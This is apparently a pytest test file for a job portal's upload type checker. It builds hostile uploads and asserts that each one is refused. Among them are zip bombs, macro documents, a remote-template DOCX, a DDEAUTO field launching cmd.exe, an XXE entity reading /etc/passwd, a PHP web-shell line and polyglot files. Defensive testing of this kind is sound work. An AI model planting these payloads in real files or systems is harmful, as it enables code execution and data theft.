"""Tests for portal.filetype: real-type detection, refusals, ATS restrictions and file names."""

from __future__ import annotations

import csv
import gzip
import hashlib
import io
import os
import random
import struct
import tempfile
import tracemalloc
import unicodedata
import zipfile
import zlib
from pathlib import Path

import olefile
import pytest
import samples
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from portal import filetype
from portal.filetype import (
    ATTACHMENT_TYPES,
    Accepted,
    FileRefused,
    allowed_types,
    check_upload,
    clean_filename,
    max_size_for,
)
from portal.filetype.limits import Budget, size_of

PDF = "application/pdf"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
DOC = "application/msword"
ODT = "application/vnd.oasis.opendocument.text"
RTF = "application/rtf"
TXT = "text/plain"
PNG = "image/png"
JPEG = "image/jpeg"
DOCM = "application/vnd.ms-word.document.macroEnabled.12"

# The extensions a sent name may end with, per type (the first is the canonical one).
EXTENSIONS = {
    PDF: (".pdf",),
    DOCX: (".docx",),
    DOC: (".doc",),
    ODT: (".odt",),
    RTF: (".rtf",),
    TXT: (".txt",),
    PNG: (".png",),
    JPEG: (".jpg", ".jpeg"),
}

# /work/shared/mime-corpus next to the repository (or next to the worktrees' folder).
CORPUS = next(
    (
        p / "shared" / "mime-corpus"
        for p in Path(__file__).resolve().parents[2:4]
        if (p / "shared" / "mime-corpus").is_dir()
    ),
    Path(__file__).resolve().parents[2] / "shared" / "mime-corpus",
)
NO_CORPUS = f"third-party MIME corpus not found at {CORPUS} (see shared/notes/mime.md)"


# --------------------------------------------------------------------------- helpers


def _check(tmp_path: Path, data: bytes, name: str = "upload.bin", **kwargs) -> Accepted:
    """Run check_upload on `data` stored in a real file, as uploads arrive."""
    path = tmp_path / "upload"
    path.write_bytes(data)
    kwargs.setdefault("attachment_type", "OTHER")
    with path.open("rb") as fh:
        return check_upload(fh, filename=name, **kwargs)


def _refusal(tmp_path: Path, data: bytes, name: str = "upload.bin", **kwargs) -> FileRefused:
    with pytest.raises(FileRefused) as caught:
        _check(tmp_path, data, name, **kwargs)
    return caught.value


def _detect(tmp_path: Path, data: bytes) -> str | None:
    path = tmp_path / "detect"
    path.write_bytes(data)
    with path.open("rb") as fh:
        return filetype.detect.inspect(fh, size_of(fh), Budget()).mime


def _restrictions(**types: dict) -> dict:
    """Shape restrictions like Kombo's GET /ats/actions/ats_add_application_attachment."""
    return {"attachment_restrictions": {"types": types}}


def _zip(entries: dict[str, bytes], *, stored_first: str | None = None) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        if stored_first is not None:
            zf.writestr(stored_first, entries[stored_first], compress_type=zipfile.ZIP_STORED)
        for name, data in entries.items():
            if name != stored_first:
                zf.writestr(name, data)
    return buf.getvalue()


DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _content_types(main: str = DOCX_MAIN, part: str = "/word/document.xml") -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="{part}" ContentType="{main}"/>'
        "</Types>"
    ).encode()


RELS = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
DOCUMENT = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>Jane Doe, engineer</w:t></w:r></w:p></w:body></w:document>"
)


def _docx(content_types: bytes | None = None, **extra: bytes) -> bytes:
    """A minimal, valid OOXML word-processing package written by hand."""
    entries = {
        "[Content_Types].xml": content_types or _content_types(),
        "_rels/.rels": RELS,
        "word/document.xml": DOCUMENT,
    }
    entries.update({name.replace("__", "/"): data for name, data in extra.items()})
    return _zip(entries)


def _odt(mimetype: bytes = ODT.encode(), **extra: bytes) -> bytes:
    entries = {
        "mimetype": mimetype,
        "content.xml": b'<?xml version="1.0"?><office:document-content '
        b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
        "META-INF/manifest.xml": b'<?xml version="1.0"?><manifest:manifest '
        b'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
        b'<manifest:file-entry manifest:full-path="/" manifest:media-type="'
        + mimetype
        + b'"/></manifest:manifest>',
    }
    entries.update({name.replace("__", "/"): data for name, data in extra.items()})
    return _zip(entries, stored_first="mimetype")


def _pdf(*objects: bytes, trailer: bytes = b"", tail: bytes = b"") -> bytes:
    """A small PDF with a correct xref; objects 1 and 2 should be the catalog and pages."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root 1 0 R " % (len(objects) + 1) + trailer
    out += b">>\nstartxref\n%d\n%%%%EOF\n" % xref + tail
    return bytes(out)


CATALOG = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [] /Count 0 >>"


def _stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), entries) + data + b"\nendstream"


class _Packed:
    """An object to put inside a compressed object stream (PDF 1.5), as object 3."""

    def __init__(self, body: bytes) -> None:
        self.body = body


def _object_stream(body: bytes) -> _Packed:
    return _Packed(body)


def _png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        crc = zlib.crc32(kind + data)
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)

    ihdr = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + chunk(b"IDAT", zlib.compress(b"\x00\x00"))
        + chunk(b"IEND", b"")
    )


JPEG_BYTES = samples.photo_jpeg(16, 16, exif=False)  # a real JPEG: Pillow decodes all of it
# Binary junk before %PDF- (readers tolerate it, libmagic does not type it): refused as a
# damaged PDF, which tells the user what to do, rather than as an unknown format.
PDF_AFTER_JUNK = _pdf(CATALOG, PAGES)
ELF_BYTES = (
    b"\x7fELF\x02\x01\x01"
    + bytes(9)
    + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 0, 64, 0, 0)
    + bytes(192)
)


# --------------------------------------------------------------------------- corpus

# The portal's decision for every corpus file when uploaded as OTHER: the content type we
# send, or "!code" for a refusal. For CV and COVER_LETTER the images become
# "!type_not_allowed" and everything else is the same. Derived from labels.csv and
# shared/notes/mime.md (Appendix A3), with the stricter rules of the portal brief.
EXPECTED_OTHER = {
    # PDF
    "tika__testPDF.pdf": PDF,
    "tika__testPDF_Version.11.x.PDFA-1b.pdf": PDF,
    "tika__testPDF_bom.pdf": PDF,  # UTF-8 BOM before %PDF: libmagic has a rule for it
    "tika__testPDF_jsActionOnPage.pdf": "!file_active_content",
    "tika__testPDF_acroform3.pdf": PDF,  # a form, but no script (its object stream is clean)
    "tika__testOCR.pdf": PDF,
    "tika__testPDF_no_extract_no_accessibility_owner_user.pdf": "!file_encrypted",
    "tika__testPDF_incrementalUpdates.pdf": PDF,
    "tika__testAppleSingleFile.pdf": "!file_damaged",  # AppleSingle wrapper: data before %PDF-
    "magika__magika_test.pdf": PDF,
    "magika__pdf.pdf": PDF,  # 482 bytes, complete
    "pymagic__test.pdf": "!file_damaged",  # the 2048-byte prefix: no %%EOF
    # DOCX and relatives
    "tika__testWORD.docx": DOCX,  # libmagic: zip
    "tika__testWORD_various.docx": DOCX,
    "tika__testWORD_2006ml.docx": DOCX,  # customXml first: libmagic says octet-stream
    "tika__testWORD_signed.docx": DOCX,
    "tika__testWORD_embedded_pdf.docx": DOCX,
    "tika__NullHeader.docx": DOCX,
    "tika__testWORD_truncated.docx": "!file_damaged",
    "tika__testWORD_protected_passtika.docx": "!file_encrypted",  # OOXML in a CFB container
    "tika__protected_upper_case.docx": "!file_encrypted",  # same, libmagic: x-ole-storage
    "tika__testWORD_template.dotx": "!file_template",
    "tika__testWORD_macros.docm": "!file_macros",
    "tika__testDOTM.dotm": "!file_macros",
    "magika__magika_test.docx": DOCX,
    "file__issue311docx.testfile": DOCX,
    "tika__testWORD_null_style.docx": DOCX,
    "tika__testWORD_totalTimeOutOfRange.docx": DOCX,
    "tika__testInstrLink.docx": DOCX,
    # DOC
    "tika__testWORD.doc": DOC,  # holds theme zips inside its streams: not a polyglot
    "tika__testWORD6.doc": DOC,
    "tika__testWORD_macros.doc": "!file_macros",
    "tika__testWORD_protected_passtika.doc": "!file_encrypted",  # FIB fEncrypted
    "tika__testWORD_2006ml.doc": DOC,
    # Upper-case stream names: libmagic gives up (x-ole-storage), olefile finds a valid
    # Word FIB without encryption or macros. The research prototype refused it.
    "tika__simple_upper_case.doc": DOC,
    "tika__testWORDML_tableInsideParagraph.doc": "!type_not_allowed",  # Word 2003 XML
    "tika__testWordPerfect_42.doc": "!type_unknown",
    "tika__testWordPerfect.wpd": "!type_not_allowed",
    # ODT
    "tika__testOpenOffice2.odt": ODT,
    "tika__testODFwithOOo3.odt": ODT,
    "tika__LibreOfficeWriter_odt_1.3.odt": ODT,
    "tika__testODTEncrypted.odt": "!file_encrypted",
    "tika__testODTMacro.odt": "!file_macros",
    "tika__testODTnotaZipFile.odt": TXT,  # plain text named .odt; sent as .txt
    "tika__testODTStyles3.odt": ODT,  # mimetype not first: libmagic says zip
    "magika__magika_test.odt": ODT,
    # RTF (libmagic says text/rtf)
    "tika__testRTF.rtf": RTF,
    "tika__testRTFWord2010CzechCharacters.rtf": RTF,
    "tika__testRTFJapanese.rtf": RTF,
    "magika__magika_test.rtf": RTF,
    "magika__rich.rtf": RTF,
    # Text and Markdown
    "tika__testTXT.txt": TXT,
    "tika__testTXTNonASCIIUTF8.txt": TXT,
    "tika__testTXT_win-1252.txt": TXT,
    "tika__multi-language.txt": TXT,
    "tika__russian.cp866.txt": TXT,
    "tika__english.cp500.txt": "!type_unknown",  # EBCDIC
    "tika__testMARKDOWN.md": TXT,
    "magika__magika_test.md": TXT,
    "magika__lorem-small.txt": TXT,
    "magika__few-words.txt": TXT,
    "pymagic__text-iso8859-1.txt": TXT,
    # Markup
    "tika__resume.html": "!type_not_allowed",
    "tika__testHTML.html": "!type_not_allowed",
    "tika__testHTML_charset_utf16le.html": "!type_not_allowed",
    "tika__testXHTML.html": "!type_not_allowed",
    "tika__testHTML_script_in_body.html": "!type_not_allowed",
    "magika__doc.html": "!type_not_allowed",
    "tika__testSVG.svg": "!type_not_allowed",
    "magika__magika_test.svg": "!type_not_allowed",
    "file__utf16xmlsvg.testfile": "!type_not_allowed",  # UTF-16 SVG: text/xml
    # Images
    "tika__testPNG.png": PNG,
    "magika__magika_test.png": PNG,
    "magika__png.png": PNG,
    "tika__testJPEG_EXIF.jpg": JPEG,
    "magika__magika_test.jpg": JPEG,
    "magika__jpg.jpg": JPEG,
    "pymagic__keep-going.jpg": JPEG,
    "tika__testHEIF.heic": "!type_not_allowed",
    "tika__IMG_1034.heic": "!type_not_allowed",
    "tika__testWEBP.webp": "!type_not_allowed",
    "tika__testWebp_Alpha_Lossless.webp": "!type_not_allowed",
    "magika__webp.webp": "!type_not_allowed",
    "tika__testGIF.gif": "!type_not_allowed",
    "magika__gif89.gif": "!type_not_allowed",
    "tika__testTIFF.tif": "!type_not_allowed",
    "magika__tiff-le.tif": "!type_not_allowed",
    "tika__testAVIF.avif": "!type_not_allowed",
    # Spreadsheets and presentations
    "tika__testEXCEL.xlsx": "!type_not_allowed",
    "tika__testEXCEL.strict.xlsx": "!type_not_allowed",
    "magika__magika_test.xlsx": "!type_not_allowed",
    "file__issue359xlsx.testfile": "!type_not_allowed",
    "tika__testEXCEL_poi-61034.xlsx": "!type_not_allowed",
    "tika__testDataConnections.xlsx": "!type_not_allowed",
    "tika__testPPT.pptx": "!type_not_allowed",
    "magika__magika_test.pptx": "!type_not_allowed",
    "tika__testPPTX_overlappingRelations.pptx": "!type_not_allowed",
    "tika__testEXCEL.xls": "!type_not_allowed",
    "tika__testPPT.ppt": "!type_not_allowed",
    "magika__password-protected-example.xls": "!file_encrypted",
    "tika__testEXCEL_macro.xlsm": "!file_macros",
    "tika__testPPT_macros.pptm": "!file_macros",
    # iWork: ask for a PDF
    "tika__testPages.pages": "!type_not_allowed",
    "tika__testPages2013.pages": "!type_not_allowed",
    "tika__testNumbers2013.numbers": "!type_not_allowed",
    "tika__testKeynote2013.key": "!type_not_allowed",
    # Archives and nothing
    "tika__test-documents.zip": "!file_archive",
    "tika__testZipEncrypted.zip": "!file_archive",
    "magika__magika_test.zip": "!file_archive",
    "magika__mini.zip": "!file_archive",
    "magika__empty_file": "!file_empty",
}


def _expected(filename: str, attachment_type: str) -> str:
    expected = EXPECTED_OTHER[filename]
    if attachment_type != "OTHER" and expected in (PNG, JPEG):
        return "!type_not_allowed"
    return expected


def _corpus_rows() -> list:
    labels = CORPUS / "labels.csv"
    if not labels.is_file():
        return [pytest.param(None, id="no-corpus", marks=pytest.mark.skip(reason=NO_CORPUS))]
    with labels.open(newline="", encoding="utf-8") as fh:
        return [pytest.param(row, id=row["filename"]) for row in csv.DictReader(fh)]


def _decision(path: Path, attachment_type: str) -> tuple[str, Accepted | FileRefused]:
    """Upload a corpus file and return ('<content type>' or '!<code>', result)."""
    with path.open("rb") as fh:
        try:
            accepted = check_upload(fh, filename=path.name, attachment_type=attachment_type)
        except FileRefused as refused:
            return "!" + refused.code, refused
    return accepted.content_type, accepted


@pytest.mark.parametrize("attachment_type", ["OTHER", "CV"])
@pytest.mark.parametrize("row", _corpus_rows())
def test_corpus_decision(row: dict, attachment_type: str) -> None:
    path = CORPUS / row["filename"]
    assert row["filename"] in EXPECTED_OTHER, "new corpus file: add it to EXPECTED_OTHER"
    expected = _expected(row["filename"], attachment_type)
    got, result = _decision(path, attachment_type)
    assert got == expected, f"{row['filename']} ({row['true_mime']}, {row['note']})"
    if isinstance(result, Accepted):
        data = path.read_bytes()
        assert result.sha256 == hashlib.sha256(data).hexdigest()
        assert result.size == len(data)
        assert result.name.endswith(EXTENSIONS[result.content_type])
        assert filetype.CONTENT_TYPE_PATTERN.match(result.content_type)
    else:
        assert result.status in (413, 415, 422)
        assert row["filename"] in result.message


def test_corpus_table_matches_labels() -> None:
    if not (CORPUS / "labels.csv").is_file():
        pytest.skip(NO_CORPUS)
    with (CORPUS / "labels.csv").open(newline="", encoding="utf-8") as fh:
        names = {row["filename"] for row in csv.DictReader(fh)}
    assert names == set(EXPECTED_OTHER)
    assert len(names) == 111


def test_corpus_summary(capsys: pytest.CaptureFixture[str]) -> None:
    """Decide every corpus file again and print the figures (kept last in the corpus block)."""
    if not (CORPUS / "labels.csv").is_file():
        pytest.skip(NO_CORPUS)
    lines = []
    for attachment_type in ("OTHER", "CV"):
        accepted = refused = wrong = 0
        for name in sorted(EXPECTED_OTHER):
            got, _ = _decision(CORPUS / name, attachment_type)
            accepted += not got.startswith("!")
            refused += got.startswith("!")
            wrong += got != _expected(name, attachment_type)
        label = "corpus" if attachment_type == "OTHER" else "corpus as CV"
        lines.append(
            f"{label}: {len(EXPECTED_OTHER)} files, accepted {accepted}, "
            f"refused {refused}, wrong {wrong}"
        )
        assert wrong == 0
    with capsys.disabled():
        print("\n" + "\n".join(lines))


def _patched_word(source: str, flag: int) -> bytes:
    """A copy of a corpus .doc with `flag` set in the FIB flags word."""
    original = CORPUS / source
    if not original.is_file():
        pytest.skip(NO_CORPUS)
    data = bytearray(original.read_bytes())
    with olefile.OleFileIO(str(original)) as ole:
        entry = next(k for k in ole.root.kids if k.name.lower() == "worddocument")
        assert entry.size >= ole.minisectorcutoff
        offset = (entry.isectStart + 1) * ole.sectorsize
    flags = int.from_bytes(data[offset + 10 : offset + 12], "little") | flag
    data[offset + 10 : offset + 12] = flags.to_bytes(2, "little")
    return bytes(data)


def test_doc_with_fencrypted_bit_is_refused(tmp_path: Path) -> None:
    data = _patched_word("tika__testWORD.doc", 0x0100)
    assert _refusal(tmp_path, data, "cv.doc").code == "file_encrypted"


def test_doc_with_template_bit_is_refused(tmp_path: Path) -> None:
    data = _patched_word("tika__testWORD.doc", 0x0001)
    refused = _refusal(tmp_path, data, "cv.dot")
    assert (refused.code, refused.status) == ("file_template", 415)


# --------------------------------------------------------------------------- hostile files


def test_zip_bomb_disguised_as_docx(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "bomb.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as zf:
        zf.writestr("[Content_Types].xml", _content_types())
        zf.writestr("_rels/.rels", RELS)
        zf.writestr("word/document.xml", DOCUMENT)
        with zf.open("word/media/zeros.bin", "w") as entry:
            block = bytes(1024 * 1024)
            for _ in range(300):  # 300 MB of zeros, streamed, about 1.4 MB on disk
                entry.write(block)

    def no_entry_reads(*args: object, **kwargs: object) -> None:
        raise AssertionError("an entry was read before the bomb guard")

    monkeypatch.setattr(zipfile.ZipFile, "open", no_entry_reads)
    with path.open("rb") as fh, pytest.raises(FileRefused) as caught:
        check_upload(fh, filename="cv.docx", attachment_type="CV")
    assert caught.value.code == "file_compression_bomb"
    assert caught.value.status == 422


def test_zip_bomb_by_ratio(tmp_path: Path) -> None:
    data = _docx(**{"word__media__zeros.bin": bytes(10 * 1024 * 1024)})  # ~1000:1, 10 MB
    assert _refusal(tmp_path, data, "cv.docx").code == "file_compression_bomb"


def test_zip_with_too_many_entries(tmp_path: Path) -> None:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as zf:
        zf.writestr("[Content_Types].xml", _content_types())
        zf.writestr("word/document.xml", DOCUMENT)
        for number in range(10_000):
            zf.writestr(f"customXml/{number}.xml", b"")
    assert _refusal(tmp_path, buf.getvalue(), "cv.docx").code == "file_compression_bomb"


def test_minimal_hand_written_docx_is_accepted(tmp_path: Path) -> None:
    data = _docx()
    accepted = _check(tmp_path, data, "Jane Doe CV.docx", attachment_type="CV")
    assert accepted == Accepted(
        content_type=DOCX,
        name="Jane Doe CV.docx",
        size=len(data),
        sha256=hashlib.sha256(data).hexdigest(),
        label="Word (.docx)",
    )


def test_docx_with_vba_project_is_macro_enabled(tmp_path: Path) -> None:
    data = _docx(**{"word__vbaProject.bin": b"\xd0\xcf\x11\xe0 not really"})
    assert _detect(tmp_path, data) == DOCM
    refused = _refusal(tmp_path, data, "CV.docx")
    assert (refused.code, refused.status) == ("file_macros", 422)
    assert refused.message == (
        '"CV.docx" has macros, which we never send to an ATS. '
        "Save it as .docx or PDF and try again."
    )


def test_vba_project_in_an_unknown_package_is_still_macros(tmp_path: Path) -> None:
    data = _docx(_content_types(part="/word/missing.xml"), **{"xl__vbaProject.bin": b"vba"})
    assert _refusal(tmp_path, data, "cv.docx").code == "file_macros"


def test_docm_renamed_docx_is_refused(tmp_path: Path) -> None:
    main = "application/vnd.ms-word.document.macroEnabled.main+xml"
    data = _docx(_content_types(main))
    assert _detect(tmp_path, data) == DOCM
    assert _refusal(tmp_path, data, "cv.docx").code == "file_macros"


def _settings_rels(rel_type: str, target: str, mode: str = ' TargetMode="External"') -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/{rel_type}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def _document_with(run: bytes) -> bytes:
    return DOCUMENT.replace(b"<w:r><w:t>Jane Doe, engineer</w:t></w:r>", run)


@pytest.mark.parametrize(
    ("extra", "detail"),
    [
        (  # template injection: Word fetches (and runs) a remote .dotm on opening
            {
                "word___rels__settings.xml.rels": _settings_rels(
                    "attachedTemplate", "http://x.test/t.dotm"
                )
            },
            "a template on another server",
        ),
        (
            {
                "word___rels__document.xml.rels": _settings_rels(
                    "oleObject", "\\\\x.test\\share\\o.bin"
                )
            },
            "an object on another server",
        ),
        (
            {
                "word__document.xml": _document_with(
                    b'<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"'
                    b'> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r>'
                )
            },
            "a DDE field",
        ),
        (
            {"word__footer1.xml": _document_with(b'<w:fldSimple w:instr=" DDE calc x y"/>')},
            "a DDE field",
        ),
    ],
    ids=["remote-template", "remote-ole-object", "ddeauto-field", "dde-simple-field-in-footer"],
)
def test_docx_that_loads_or_runs_something_is_refused(
    tmp_path: Path, extra: dict, detail: str
) -> None:
    refused = _refusal(tmp_path, _docx(**extra), "cv.docx")
    assert (refused.code, refused.status) == ("file_remote_content", 422)
    assert detail in refused.message and '"cv.docx"' in refused.message


def test_docx_with_links_and_ordinary_fields_is_accepted(tmp_path: Path) -> None:
    # Hyperlinks are external relationships too, and a CV is full of them; PAGE and HYPERLINK
    # fields are ordinary. None of that is refused.
    data = _docx(
        **{
            "word___rels__document.xml.rels": _settings_rels(
                "hyperlink", "https://www.linkedin.com/in/jane"
            ),
            "word___rels__settings.xml.rels": _settings_rels(
                "attachedTemplate", "Normal.dotm", mode=""
            ),
            "word__document.xml": _document_with(
                b'<w:fldSimple w:instr=" PAGE "/><w:r><w:instrText> HYPERLINK "https://x.test" '
                b"</w:instrText></w:r><w:r><w:t>DDE is a protocol I know</w:t></w:r>"
            ),
        }
    )
    assert _check(tmp_path, data, "cv.docx").content_type == DOCX


def test_dotx_is_refused_as_template(tmp_path: Path) -> None:
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
    refused = _refusal(tmp_path, _docx(_content_types(main)), "cv.docx")
    assert (refused.code, refused.status) == ("file_template", 415)


def test_content_types_with_odd_case_and_newlines(tmp_path: Path) -> None:
    types = (
        b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"><override partname = "/WORD/document.xml"\n  contenttype=\n'
        b'  " APPLICATION/vnd.openxmlformats-officedocument.wordprocessingml.document.MAIN+xml "'
        b"/></Types>"
    )
    assert _check(tmp_path, _docx(types), "cv.docx").content_type == DOCX


def test_declared_main_part_must_exist(tmp_path: Path) -> None:
    data = _docx(_content_types(part="/word/missing.xml"))
    assert _refusal(tmp_path, data, "cv.docx").code == "file_damaged"


def test_content_types_with_a_doctype_are_refused(tmp_path: Path) -> None:
    # An XXE / billion-laughs payload: the parser expands nothing and fetches nothing, and OPC
    # forbids DTDs in a package, so the file is refused as damaged (Word refuses it too).
    types = (
        b'<?xml version="1.0"?><!DOCTYPE t [<!ENTITY x SYSTEM "file:///etc/passwd">'
        b'<!ENTITY a "&x;&x;&x;&x;">]>' + _content_types().split(b"?>", 1)[1]
    )
    assert _refusal(tmp_path, _docx(types), "cv.docx").code == "file_damaged"


def test_iwork_layout_asks_for_pdf(tmp_path: Path) -> None:
    data = _zip({"Index/Document.iwa": b"\x00" * 64, "Metadata/Properties.plist": b"x"})
    refused = _refusal(tmp_path, data, "CV.pages", attachment_type="CV")
    assert refused.code == "type_not_allowed"
    assert "Export it to PDF" in refused.message


def test_plain_zip_is_an_archive(tmp_path: Path) -> None:
    refused = _refusal(tmp_path, _zip({"cv.pdf": _pdf(CATALOG, PAGES)}), "cv.docx")
    assert (refused.code, refused.status) == ("file_archive", 415)


def test_zip_with_unknown_mimetype_entry_is_an_archive(tmp_path: Path) -> None:
    data = _odt(mimetype=b"application/epub+zip")
    assert _refusal(tmp_path, data, "cv.odt").code == "file_archive"


def test_minimal_odt_is_accepted(tmp_path: Path) -> None:
    accepted = _check(tmp_path, _odt(), "Lebenslauf.odt", attachment_type="CV")
    assert (accepted.content_type, accepted.name) == (ODT, "Lebenslauf.odt")


def test_odt_with_basic_macros_is_refused(tmp_path: Path) -> None:
    data = _odt(**{"Basic__Standard__Module1.xml": b"<script:module/>"})
    assert _refusal(tmp_path, data, "cv.odt").code == "file_macros"


def test_odt_with_encryption_data_is_refused(tmp_path: Path) -> None:
    manifest = (
        b'<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:'
        b'opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path='
        b'"content.xml"><manifest:encryption-data manifest:checksum-type="SHA1"/>'
        b"</manifest:file-entry></manifest:manifest>"
    )
    data = _odt(**{"META-INF__manifest.xml": manifest})
    assert _refusal(tmp_path, data, "cv.odt").code == "file_encrypted"


def test_ott_is_a_template(tmp_path: Path) -> None:
    data = _odt(mimetype=b"application/vnd.oasis.opendocument.text-template")
    assert _refusal(tmp_path, data, "cv.odt").code == "file_template"


@pytest.mark.parametrize(
    ("data", "name", "code"),
    [
        (ELF_BYTES, "cv.pdf", "file_executable"),
        (b"#!/bin/sh\necho hello\nrm -rf /tmp/x\n", "cv.txt", "file_executable"),
        (b"<?php echo 'hi'; system($_GET['c']); ?>\n", "cv.pdf", "file_executable"),
        (b"#!/usr/bin/env python3\nimport os\nprint(1)\n", "cv.txt", "file_executable"),
        (
            b"<!DOCTYPE html>\n<html><head><title>CV</title></head>"
            b"<body><script>alert(1)</script></body></html>\n",
            "cv.pdf",
            "type_not_allowed",
        ),
        (
            b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
            b"<script>alert(1)</script></svg>\n",
            "photo.png",
            "type_not_allowed",
        ),
        (gzip.compress(b"hello world " * 100), "cv.pdf", "file_archive"),
        (b"PK\x03\x04", "cv.docx", "file_damaged"),
        (b"%PDF-1.7\n", "cv.pdf", "file_damaged"),
        (b"\x00\x01junk\xff" * 20 + PDF_AFTER_JUNK, "cv.pdf", "file_damaged"),
        (b"a", "cv.txt", "type_unknown"),
        (bytes(range(256)) * 16, "cv.pdf", "type_not_allowed"),  # libmagic: image/x-tga
        # Seeded: about 1 in 60 draws of os.urandom looks like a DOS program or an image to
        # libmagic (still refused, under another code), which made this test flaky.
        (random.Random(1).randbytes(4096), "cv.pdf", "type_unknown"),
    ],
    ids=[
        "elf-as-pdf",
        "shell-as-txt",
        "php-as-pdf",
        "python-as-txt",
        "html-as-pdf",
        "svg-with-script",
        "gzip",
        "bare-pk-header",
        "pdf-header-only",
        "junk-before-pdf",
        "one-byte",
        "all-bytes",
        "random",
    ],
)
def test_hostile_uploads_are_refused(tmp_path: Path, data: bytes, name: str, code: str) -> None:
    refused = _refusal(tmp_path, data, name, attachment_type="OTHER")
    assert refused.code == code
    assert name in refused.message


def test_pdf_with_zip_appended_is_refused(tmp_path: Path) -> None:
    payload = _zip({f"payload{i}.txt": os.urandom(300) for i in range(8)})
    assert len(payload) > 1024
    data = _pdf(CATALOG, PAGES, tail=payload)
    assert _refusal(tmp_path, data, "cv.pdf").code == "file_damaged"


def test_pdf_with_small_zip_after_eof_is_a_polyglot(tmp_path: Path) -> None:
    payload = _zip({"a.txt": b"hello"})
    assert len(payload) < 1024
    refused = _refusal(tmp_path, _pdf(CATALOG, PAGES, tail=payload), "cv.pdf")
    assert refused.code == "file_archive"


def test_pdf_with_short_trailing_html_is_accepted(tmp_path: Path) -> None:
    # Acrobat tolerates 1 KB after %%EOF and the ATS gets it as application/pdf: harmless.
    data = _pdf(CATALOG, PAGES, tail=b"<html><body>hi</body></html>\n")
    assert _check(tmp_path, data, "cv.pdf").content_type == PDF


@pytest.mark.parametrize("attachment_type", ["OTHER", "CV"])
def test_jpeg_with_zip_appended_is_refused(tmp_path: Path, attachment_type: str) -> None:
    # A JPEG with a readable ZIP after it (GIFAR-style polyglot) is refused everywhere:
    # nothing may follow the image's end.
    data = JPEG_BYTES + _zip({"evil.class": os.urandom(200)})
    refused = _refusal(tmp_path, data, "photo.jpg", attachment_type=attachment_type)
    assert refused.code == "file_damaged"


def test_jpeg_with_other_trailing_data(tmp_path: Path) -> None:
    # Choice (issue 9): data after the image's end is refused, phone "motion photos" too
    # (the video after the picture is a file we cannot check); a multi-picture JPEG is fine.
    data = JPEG_BYTES + b"\x00\x00\x00\x18ftypmp42" + os.urandom(2000)
    refused = _refusal(tmp_path, data, "photo.jpg")
    assert (refused.code, refused.status) == ("file_damaged", 422)
    assert "other data after the end of the image" in refused.message
    assert _check(tmp_path, JPEG_BYTES + JPEG_BYTES, "mpo.jpg").content_type == JPEG
    assert _check(tmp_path, JPEG_BYTES + bytes(100), "padded.jpg").content_type == JPEG


def test_images_for_other_only(tmp_path: Path) -> None:
    accepted = _check(tmp_path, _png(), "Zeugnis.png", attachment_type="OTHER")
    assert (accepted.content_type, accepted.name, accepted.label) == (
        PNG,
        "Zeugnis.png",
        "PNG image",
    )
    refused = _refusal(tmp_path, _png(), "Zeugnis.png", attachment_type="COVER_LETTER")
    assert refused.code == "type_not_allowed"
    assert "PDF, Word (.docx)" in refused.message


# --------------------------------------------------------------------------- PDF content


@pytest.mark.parametrize(
    ("objects", "trailer", "code"),
    [
        (
            (
                b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
                PAGES,
